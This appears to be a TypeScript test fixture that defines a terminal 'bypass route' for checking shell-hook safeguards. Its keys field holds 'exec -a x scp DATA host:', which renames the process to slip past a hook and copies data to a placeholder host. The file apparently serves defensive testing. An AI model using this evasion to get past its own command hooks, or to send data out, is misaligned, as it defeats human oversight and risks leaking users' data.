import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'exec -a',
  source: 'attempts to get round a hook of the shell',
  keys: ['exec -a x scp DATA host:\r'],
  isRaw: true,
};
